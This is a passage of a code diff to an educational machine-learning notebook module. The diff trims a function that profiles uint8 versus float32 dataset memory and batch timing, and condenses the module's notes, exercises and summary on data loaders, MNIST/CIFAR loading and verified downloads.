-# same shape otherwise:
-#
-# - the bytes of the training images as stored (uint8) and as float32 (4× more, by arithmetic:
-#   47 MB against 188 MB for MNIST, 154 MB against 614 MB for CIFAR-10);
-# - the time to gather a batch of 256 from a uint8 store and convert it, against gathering it
-#   from a float32 store converted once at load time;
-# - the peak memory of loading MNIST from its files (with `tracemalloc`), when they are there.
-#
-# Compare the two batch times it prints. Gathering from uint8 reads 4× fewer bytes of scattered
-# memory, and scattered reads dominate a gather, so converting per batch usually costs nothing
-# measurable, while the memory saved is 4×.
+# Section 5 keeps images as uint8 and converts per batch. Is that free? The function below
+# prints the bytes of the training images as uint8 and as float32, and the time to gather a
+# batch from each store (the real MNIST when `$TINYTORCH_DATA` has it, random bytes otherwise).
+# Gathering from uint8 reads 4× fewer bytes of scattered memory, which can pay for the conversion.
 
 # %% nbgrader={"grade": false, "grade_id": "profile-dataset-memory", "locked": false, "schema_version": 3, "solution": false}
 def profile_dataset_memory(batch_size: int = 256, repeats: int = 200) -> dict[str, float]:
     """Dataset bytes as uint8 vs float32, and the per-batch price of converting, measured."""
-    import tracemalloc
-
-    peak = None
     try:
-        tracemalloc.start()
         train, _ = download_mnist(download=False, progress=False)
-        peak = tracemalloc.get_traced_memory()[1]
         source = "the real MNIST"
     except (DownloadError, ChecksumError):
         rng = np.random.default_rng(0)
         train = ImageDataset(rng.integers(0, 256, size=(60_000, 1, 28, 28), dtype=np.uint8),
                              rng.integers(0, 10, size=60_000))
         source = "random bytes shaped like MNIST (set $TINYTORCH_DATA to use the real files)"
-    finally:
-        tracemalloc.stop()
     as_float = TensorDataset(train.data.astype(np.float32) / 255, train.targets)
     print(f"{source}:")
     print(f"  uint8 images:   {train.data.nbytes:>12,} bytes ({train.data.nbytes / 1e6:6.1f} MB)")
     print(f"  float32 images: {as_float.arrays[0].nbytes:>12,} bytes ({as_float.arrays[0].nbytes / 1e6:6.1f} MB)")
-    if peak is not None:
-        print(f"  peak memory while loading train + test: {peak / 1e6:.1f} MB")
 
     indices = [np.random.default_rng(k).integers(0, len(train), batch_size) for k in range(repeats)]
     timings = {}
@@ -1588,8 +1467,7 @@ def profile_dataset_memory(batch_size: int = 256, repeats: int = 200) -> dict[st
             best = min(best, (time.perf_counter() - start) / repeats)
         timings[name] = best
         print(f"  batch of {batch_size}, {name:<26}: {best * 1e3:6.3f} ms")
-    return {"uint8_bytes": train.data.nbytes, "float32_bytes": as_float.arrays[0].nbytes,
-            "peak_load_bytes": peak or 0, **timings}
+    return {"uint8_bytes": train.data.nbytes, "float32_bytes": as_float.arrays[0].nbytes, **timings}
 
 
 if __name__ == "__main__":
@@ -1598,71 +1476,41 @@ if __name__ == "__main__":
 # %% [markdown]
 # ## Production Context
 #
-# **`torch.utils.data`** has the same two halves, with more machinery around each:
-#
-# - **Datasets**: map-style (like ours) and **iterable-style** (`IterableDataset`, a stream for
-#   data that does not fit on one disk; shuffling then happens in a buffer). A dataset may define
-#   `__getitems__` to fetch a whole batch at once: our `get_batch`.
-# - **Samplers** make the order a separate object: `RandomSampler`, `WeightedRandomSampler`
-#   (oversample rare classes), `DistributedSampler` (each GPU gets a disjoint share of the
-#   permutation, reshuffled with `set_epoch`); `collate_fn` stacks samples (`default_collate`,
-#   our `stack_samples`).
-# - **Workers**: `num_workers=8` starts 8 processes that prepare whole batches while the GPU
-#   computes (processes, because per-sample Python code holds the GIL), each seeded
-#   `base_seed + worker_id`. Before PyTorch 1.9 NumPy's global generator was *copied* into every
-#   worker, so all workers drew the same "random" augmentations; a per-loader generator, as
-#   here, avoids this by construction. `pin_memory=True` lets the GPU copy batches by DMA,
-#   overlapping the copy with compute.
-#
-# **torchvision.datasets.MNIST** downloads the same four files from the same mirror, checks
-# their md5 and keeps uint8, converting per sample: our decision. Its **CIFAR10** unpickles the
-# Python version after an md5 check. **At scale** the input pipeline is often the bottleneck: a
-# GPU training a ResNet-50 at 3 000 images/s needs 3 000 JPEGs decoded, cropped and flipped per
-# second, so production systems decode on the GPU (NVIDIA DALI), precompute compact formats
-# (FFCV, WebDataset shards), and memory-map columns (Hugging Face `datasets` on Apache Arrow:
-# like our `frombuffer`, data used where it lies).
+# **`torch.utils.data`** adds iterable-style datasets (streams), samplers
+# (`WeightedRandomSampler`, `DistributedSampler`), `collate_fn` (our `stack_samples`),
+# `__getitems__` (our `get_batch`) and **worker processes** that prepare batches while the GPU
+# computes. Before PyTorch 1.9 every worker inherited a *copy* of NumPy's global generator and
+# drew the same "random" augmentations; a per-loader generator avoids that by construction.
+# **At scale** the input pipeline is often the bottleneck: systems decode on the GPU (DALI),
+# precompute compact formats (FFCV, WebDataset) and memory-map columns (Hugging Face `datasets`).
 #
 # ## ML Systems Thinking
 #
-# 1. Take the epoch times `analyze_batching_speed` printed for the fast and the slow path, and
-#    time one training step of module 03's MLP at batch 64 on the same machine. What fraction of
-#    training time does each path cost? How would worker processes change the answer, and what
-#    would they cost in memory?
-# 2. Our loader draws its generator from `get_rng().spawn(1)` at construction. PyTorch draws
-#    a seed from the global generator at each `__iter__`. Give a program in which the two
-#    designs produce different batches after `manual_seed(0)`, and argue which one is easier
-#    to keep reproducible when you add dropout to the model.
-# 3. CIFAR-10's training set is 154 MB as uint8. ImageNet's is about 140 GB as JPEG and about
-#    770 GB as float32 tensors at 224×224. Which of this module's decisions survive at that
-#    scale, and which must change (memory, the per-epoch permutation, checksums, where decoding
-#    and augmentation run)?
-# 4. `RandomCrop` builds `sliding_window_view(padded, (h, w))` of shape `(N, C, H', W', h, w)`.
-#    For CIFAR (N = 256, padding 4, crop 32) how many elements does that view describe, and how
-#    many bytes does it occupy? Why is the final fancy index a copy of only `N·C·h·w` elements?
-# 5. A mirror answers with status 200 and an HTML page saying "quota exceeded". Which check in
-#    `_download.py` catches it, and what would your `read_idx` have said without it? Which check
-#    catches a connection cut off after 90 % of the file?
-# 6. Why is `os.replace` atomic only when the temp file is in the destination's folder? What
-#    could a reader of the folder observe if the download wrote directly to the final name?
+# 1. Take the epoch times `analyze_batching_speed` printed and time one training step of module
+#    03's MLP at batch 64. What fraction of training does each path cost? What would worker
+#    processes change, and cost in memory?
+# 2. Our loader spawns its generator at construction; PyTorch draws a seed at each `__iter__`.
+#    Give a program where the two differ after `manual_seed(0)`. Which stays reproducible when
+#    you add dropout to the model?
+# 3. ImageNet is about 140 GB as JPEG and 770 GB as float32 at 224×224. Which of this module's
+#    decisions survive at that scale, and which must change?
+# 4. For CIFAR (N = 256, padding 4, crop 32), how many elements does `RandomCrop`'s window view
+#    describe, and how many bytes does it occupy? Why does the fancy index copy only `N·C·h·w`?
+# 5. A mirror answers status 200 with an HTML "quota exceeded" page. Which check in
+#    `_download.py` catches it, and what would `read_idx` have said without it? And a
+#    connection cut off after 90 % of the file? Why must the `.part` file share the folder?
 #
 # ## Module Summary
 #
-# You built the path from files on disk to batches a model can eat:
-#
-# - **`stack_samples`, `Dataset`, `TensorDataset`**: the two-method protocol, plus
-#   `get_batch(indices)`, the fast path that gathers a whole batch with one fancy index per
-#   array (the slow path any dataset gets for free, tested equal to it).
-# - **`DataLoader`**: batches, `drop_last`, a fresh permutation every epoch from a per-loader
-#   generator (`seed=`, or spawned after `manual_seed`), float32 inputs and int64 labels, and
-#   `state_dict()` to resume a run exactly. You measured how much the fast path gains.
-# - **Transforms on whole batches**: `Normalize`, `Compose`, `RandomCrop` (per-sample offsets
-#   through a sliding-window view, no loop), `RandomHorizontalFlip`, all drawing from the
-#   loader's generator, so augmentation is reproducible.
-# - **Generated datasets** for tests and demos: `make_xor`, `make_spirals`, `make_blobs`, and
-#   `load_digits` over the given stroke renderer.
+# - **`stack_samples`, `Dataset`, `TensorDataset`**: the protocol, plus `get_batch(indices)`,
+#   one fancy index per array (the slow path any dataset gets for free, tested equal to it).
+# - **`DataLoader`**: batches, `drop_last`, a fresh permutation per epoch from a per-loader
+#   generator, float32 inputs and int64 labels, `state_dict()` to resume exactly.
+# - **Batch transforms**: `Normalize`, `Compose`, `RandomCrop` (a sliding-window view, no
+#   loop), `RandomHorizontalFlip`, reproducible through the loader's generator.
 # - **Real data**: `read_idx` and `read_cifar10_bin` check every header; `ImageDataset` keeps
-#   uint8 in memory and converts per batch; `download_mnist` and `download_cifar10` parse the
-#   files that the given download code found, verified and wrote atomically. No pickle anywhere.
+#   uint8 and converts per batch; `download_mnist`/`download_cifar10` parse files the given
+#   code found, verified and wrote atomically. No pickle anywhere.
 #
 # **Next:** milestone 03 trains an MLP on MNIST with these loaders (the 1986 backpropagation
 # result, on 60 000 real digits), and module 09 (spatial) adds convolutions, which take the
